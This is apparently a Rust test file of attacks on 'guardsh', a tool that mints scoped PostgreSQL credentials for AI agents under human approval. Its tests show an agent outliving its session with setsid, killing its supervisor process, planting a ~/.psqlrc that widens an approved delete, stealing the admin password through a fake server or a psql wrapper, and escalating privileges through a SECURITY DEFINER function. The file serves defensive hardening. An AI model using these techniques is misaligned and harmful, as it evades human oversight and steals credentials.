//! Review of issue 15 (minted credentials): attacks an agent can make on minting, each written
//! to assert what should hold (docs/bypasses.md m7-m11). The `#[ignore]`d ones fail: each shows
//! a hole left open and documented there (run them with `--ignored`).

use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use crate::escapes::Mode;
use crate::mint_pg::{ADMIN_PASSWORD, Db};
use crate::mint_run::{lock_t, session, world};

fn minted_roles(db: &Db) -> String {
    db.superuser("select count(*) from pg_roles where rolname like 'guardsh\\_%'")
}

fn minted_sessions(db: &Db) -> String {
    db.superuser("select count(*) from pg_stat_activity where usename like 'guardsh\\_%'")
}

fn wait_until(what: &str, secs: u64, mut done: impl FnMut() -> bool) {
    let start = Instant::now();
    while !done() {
        assert!(start.elapsed() < Duration::from_secs(secs), "{what} never came");
        std::thread::sleep(Duration::from_millis(100));
    }
}

/// HOLE: the agent starts psql in the background and exits. `guardsh run` returns as soon as the
/// agent has gone (session.rs: `child.wait()` then exit), without waiting for the tools it
/// started: the serve threads die with the process, so `Minted::revoke` never runs and neither
/// does `Lease::drop`. The tool (setsid, no parent-death signal) keeps its session; the role
/// stays in pg_roles for good, and its session is never ended (VALID UNTIL is checked at login
/// only).
fn agent_exit_leaves_the_role(mode: Mode) {
    let Some(db) = Db::start() else { return };
    let Some(t) = world(&db, mode) else { return };
    let log = t.cwd.join("log");
    // An allowed read that waits: t is held locked by another session for 8 s.
    let locker = lock_t(&db, 8);
    let script = format!("setsid psql -At -c 'select count(*) from t' >{l} 2>&1 & sleep 3; exit 0", l = log.display());
    let (code, _, stderr) = session(&t, mode, &script);
    eprintln!("guardsh run returned {code:?}; roles {} sessions {}", minted_roles(&db), minted_sessions(&db));
    std::thread::sleep(Duration::from_secs(1));
    eprintln!("roles {} sessions {}", minted_roles(&db), minted_sessions(&db));
    // Let the tool end by itself: whoever should revoke has had all the time it needs.
    let _ = locker.wait_with_output();
    std::thread::sleep(Duration::from_secs(2));
    let left = minted_roles(&db);
    let log = std::fs::read_to_string(&log).unwrap_or_default();
    eprintln!("tool log: {log}\nguardsh: {stderr}");
    assert_eq!(left, "0", "a minted role outlived both its tool and guardsh run: {stderr}");
}

#[test]
fn attack_agent_exit_leaves_the_role_without_the_sandbox() {
    agent_exit_leaves_the_role(Mode::NoSandbox);
}

#[test]
fn attack_agent_exit_leaves_the_role_in_the_sandbox() {
    agent_exit_leaves_the_role(Mode::Sandbox);
}

/// HOLE (no sandbox): the agent kills its parent, `guardsh run` (same uid), while a minted tool
/// runs. Nothing revokes; the tool's session goes on indefinitely.
#[test]
#[ignore = "open hole: SIGKILL of guardsh run leaves the minted role and its session"]
fn attack_kill_guardsh_run_leaves_the_role_and_session() {
    let Some(db) = Db::start() else { return };
    let Some(t) = world(&db, Mode::NoSandbox) else { return };
    let mut locker = lock_t(&db, 30);
    let log = t.cwd.join("log");
    let script = format!(
        "psql -At -c 'select count(*) from t' >{l} 2>&1 & sleep 3; cat /proc/$PPID/comm >> {l}; kill -KILL $PPID; sleep 1",
        l = log.display()
    );
    let (code, _, err) = session(&t, Mode::NoSandbox, &script);
    eprintln!("guardsh run ended {code:?}: {err}");
    eprintln!("tool log: {}", std::fs::read_to_string(&log).unwrap_or_default());
    std::thread::sleep(Duration::from_secs(2));
    let (roles, sessions) = (minted_roles(&db), minted_sessions(&db));
    // The agent's user reads the tool's environment (same uid, no sandbox).
    let role = db.minted_role();
    let (_, env) = crate::mint_run::tool_with(&role);
    let password = env.iter().find(|(k, _)| k == "PGPASSWORD").map(|(_, v)| v.clone()).unwrap_or_default();
    let _ = locker.kill();
    let _ = locker.wait();
    db.superuser("select count(pg_terminate_backend(pid)) from pg_stat_activity where query like '%pg_sleep%' and pid <> pg_backend_pid()");
    wait_until("the tool's end", 20, || minted_sessions(&db) == "0");
    let roles_after = minted_roles(&db);
    // After the tool is gone, nothing revoked the role: it logs in, for statements nobody decided.
    let later = db.login(&role, &password, "select count(*) from t");
    eprintln!(
        "roles {roles} sessions {sessions}; after the tool ended: roles {roles_after}; a later login: {:?} {}",
        later.status.code(),
        String::from_utf8_lossy(&later.stdout).trim()
    );
    assert!(!later.status.success(), "the minted role still logs in after its tool ended");
    // Clean up the session so the cluster can stop.
    db.superuser("select count(pg_terminate_backend(pid)) from pg_stat_activity where usename like 'guardsh\\_%'");
    assert_eq!((roles.as_str(), sessions.as_str()), ("0", "0"), "role and session outlived guardsh run");
}

/// HELD (b5's PSQLRC=/dev/null): psql would read ~/.psqlrc (the tool's HOME is the human's, which the agent can
/// write) and runs it, as the minted role, before the statements guardsh decided on. The human
/// approves `delete from t where id = 1`; the role is granted DELETE on t; ~/.psqlrc deletes
/// every row. (Any meta-command works too: `\i FIFO` gives the agent an interactive session with
/// the role, `\! cmd` a shell in the tool's environment, outside the sandbox's jail rules.)
fn psqlrc_widens_an_approved_delete(mode: Mode) {
    let Some(db) = Db::start() else { return };
    let Some(t) = world(&db, mode) else { return };
    let rules = std::fs::read_to_string(t.config_dir().join("rules.toml")).expect("rules");
    std::fs::write(t.config_dir().join("rules.toml"), rules.replacen("wait = false\n", "wait = true\n", 1))
        .expect("rules");
    let out = t.cwd.join("out");
    std::fs::create_dir(&out).expect("mkdir");
    let script = format!(
        "printf 'delete from t;\\n' > \"$HOME/.psqlrc\" 2>{o}/rcerr; echo rc:$? >> {o}/log; \
         setsid psql -At -c 'delete from t where id = 1' >> {o}/log 2>&1; echo $? >> {o}/log",
        o = out.display()
    );
    t.hand_to_agent();
    let t = std::sync::Arc::new(t);
    let runner = std::thread::spawn({
        let t = std::sync::Arc::clone(&t);
        move || session(&t, mode, &script)
    });
    let id = t.pending_as_agent(1).remove(0);
    t.approve_as_agent(&id);
    let (_, _, stderr) = runner.join().expect("agent");
    let log = std::fs::read_to_string(out.join("log")).unwrap_or_default();
    let left = db.superuser("select count(*) from t");
    eprintln!(
        "rows left {left}; log: {log}; rcerr: {}",
        std::fs::read_to_string(out.join("rcerr")).unwrap_or_default()
    );
    assert_eq!(left, "4", "the approved `delete ... where id = 1` deleted {left} rows' worth: {log}\n{stderr}");
}

#[test]
fn attack_psqlrc_widens_an_approved_delete_without_the_sandbox() {
    psqlrc_widens_an_approved_delete(Mode::NoSandbox);
}

#[test]
fn attack_psqlrc_widens_an_approved_delete_in_the_sandbox() {
    psqlrc_widens_an_approved_delete(Mode::Sandbox);
}

/// HARDENING: the admin connection sends the held password to whatever answers at the configured
/// address, in clear text if asked (no `require_auth`, no channel binding). An agent that can
/// answer there first (a localhost name whose ::1 the server does not listen on, a port > 1024
/// while the server restarts, a socket directory it can write) gets the admin password. Shown
/// with a fake server on a Unix socket that asks for a cleartext password.
#[test]
#[ignore = "open hole (deployment-dependent): the admin password goes to any server in clear"]
fn attack_a_fake_server_gets_the_admin_password() {
    let Some(db) = Db::start() else { return };
    let dir = tempfile::tempdir().expect("tempdir");
    let sock = dir.path().join(".s.PGSQL.5432");
    let got = dir.path().join("got");
    let fake = r#"
import socket, struct, sys
s = socket.socket(socket.AF_UNIX); s.bind(sys.argv[1]); s.listen(1)
open(sys.argv[1] + ".ready", "w").close()
c, _ = s.accept()
n = struct.unpack("!I", c.recv(4))[0]; c.recv(n - 4)
c.sendall(b"R" + struct.pack("!II", 8, 3))
t = c.recv(1); n = struct.unpack("!I", c.recv(4))[0]; pw = c.recv(n - 4)
open(sys.argv[2], "wb").write(pw.rstrip(b"\0"))
"#;
    let mut server =
        Command::new("python3").args(["-c", fake]).arg(&sock).arg(&got).stdout(Stdio::null()).spawn().expect("python3");
    let ready = std::path::PathBuf::from(format!("{}.ready", sock.display()));
    wait_until("the fake server", 10, || ready.exists());
    let cfg = guardsh::mint::postgres::Config {
        host: dir.path().display().to_string(),
        dbname: "postgres".into(),
        admin_user: "admin".into(),
        ..Default::default()
    };
    let s = guardsh::mint::pg_scope::scope(&["select * from t"]).expect("scope");
    let r = guardsh::mint::postgres::mint(&cfg, &db.psql(), ADMIN_PASSWORD, &s, "x");
    let _ = server.wait();
    let leaked = std::fs::read_to_string(&got).unwrap_or_default();
    assert!(r.is_err());
    assert_ne!(leaked, ADMIN_PASSWORD, "the admin password went to the fake server in clear text");
}

/// HOLE (with `trust_user_installed_tools = true`, the setting for tools in ~/.local/bin, a
/// venv, Homebrew): minting runs the admin connection with `req.real`, the same psql the tool
/// runs, found on guardsh run's PATH. An agent that can write that psql (it is user-installed:
/// that is what the setting trusts) gets the held admin password in the admin run's
/// environment, before any tool runs; without minting it would only have got the grant.
#[test]
fn attack_a_user_installed_psql_gets_the_admin_password() {
    let Some(db) = Db::start() else { return };
    let Some(t) = world(&db, Mode::NoSandbox) else { return };
    let rules = std::fs::read_to_string(t.config_dir().join("rules.toml")).expect("rules");
    if !rules.contains("trust_user_installed_tools = true") {
        let trusting = rules.replacen("[settings]\n", "[settings]\ntrust_user_installed_tools = true\n", 1);
        std::fs::write(t.config_dir().join("rules.toml"), trusting).expect("rules");
    }
    // The directory of the real tools is the user's own (as ~/.local/bin would be).
    if crate::support::as_root() {
        std::os::unix::fs::chown(&t.real, Some(crate::support::AGENT_UID), Some(crate::support::AGENT_UID))
            .expect("chown");
    }
    let leak = t.cwd.join("leak");
    // What the agent writes there (it owns the directory; the test's agent shell has no rm).
    let fake = t.real.join("psql");
    std::fs::remove_file(&fake).expect("rm");
    std::fs::write(&fake, format!("#!/bin/sh\nenv >> {}\nexec {} \"$@\"\n", leak.display(), db.psql().display()))
        .expect("write");
    std::fs::set_permissions(&fake, std::os::unix::fs::PermissionsExt::from_mode(0o755)).expect("chmod");
    if crate::support::as_root() {
        std::os::unix::fs::chown(&fake, Some(crate::support::AGENT_UID), Some(crate::support::AGENT_UID))
            .expect("chown");
    }
    let script = "psql -At -c 'select count(*) from t'".to_string();
    let (code, out, err) = session(&t, Mode::NoSandbox, &script);
    let leaked = std::fs::read_to_string(&leak).unwrap_or_default();
    eprintln!("code {code:?} out {out} err {err}");
    assert!(!leaked.contains(ADMIN_PASSWORD), "the agent's psql got the admin password:\n{leaked}");
}

/// HOLE (needs a session as the minted role running SQL guardsh did not scope, and CREATE on a
/// schema for PUBLIC, as in any database created before PostgreSQL 15 and upgraded): revoking
/// runs `REASSIGN OWNED BY role TO CURRENT_USER`, so whatever the minted role created becomes the
/// admin's. A SECURITY DEFINER function created by the minted role then runs as the admin
/// (CREATEROLE, owner of the tables) for anyone who calls it, after the role is gone: here a
/// bystander role makes itself a login role with the admin's power.
#[test]
fn attack_revoke_hands_a_security_definer_function_to_the_admin() {
    let Some(db) = Db::start() else { return };
    // A database made before PostgreSQL 15 keeps CREATE on public for PUBLIC.
    db.superuser("grant create on schema public to public");
    let cfg = guardsh::mint::postgres::Config {
        host: db.server.socket(),
        dbname: "postgres".into(),
        admin_user: "admin".into(),
        ..Default::default()
    };
    let s = guardsh::mint::pg_scope::scope(&["select count(*) from t"]).expect("scope");
    let m = guardsh::mint::postgres::mint(&cfg, &db.psql(), ADMIN_PASSWORD, &s, "x").expect("mint");
    // The minted role (its password taken from the tool, or any unscoped SQL in its session).
    let made = db.login(
        &m.role,
        &m.password,
        "create function public.helper() returns text language sql security definer \
         as $$ select 'ok' $$; \
         create or replace function public.helper() returns text language plpgsql security definer \
         as $f$ begin execute 'create role escaped login password ''pw'' createrole'; return current_user; end $f$;",
    );
    assert!(made.status.success(), "{}", String::from_utf8_lossy(&made.stderr));
    m.lease.revoke().expect("revoke");
    let owner = db.superuser("select pg_get_userbyid(proowner) from pg_proc where proname = 'helper'");
    db.superuser("create role caller login password 'c'");
    let ran = db.login("caller", "c", "select public.helper()");
    let escaped = db.superuser("select count(*) from pg_roles where rolname = 'escaped'");
    eprintln!("helper owned by {owner:?}; caller ran it: {}", String::from_utf8_lossy(&ran.stdout));
    assert_ne!(owner, "admin", "the minted role's function now runs as the admin");
    assert_eq!(escaped, "0", "a role was created through the admin's privileges");
}
